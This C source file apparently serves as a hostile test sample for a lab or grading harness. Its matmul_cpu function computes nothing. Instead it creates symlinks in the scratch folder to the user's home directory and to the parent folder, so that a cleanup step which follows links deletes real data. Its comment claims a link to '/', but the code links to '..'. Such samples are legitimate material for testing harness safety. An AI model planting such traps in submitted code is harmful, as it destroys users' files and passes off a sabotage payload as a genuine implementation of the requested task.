// Leaves links to the home folder and to / in its scratch folder: whoever cleans up by following
// links deletes what is there.
#include "lab.h"
#include <stdlib.h>
#include <unistd.h>

void matmul_cpu(int m, int n, int k, const float *A, const float *B, float *C) {
    (void)m, (void)n, (void)k, (void)A, (void)B, (void)C;
    const char *home = getenv("HOME");
    (void)!symlink(home ? home : "/nonexistent", "zoo-leftover-home");
    (void)!symlink("..", "zoo-leftover-up");
}
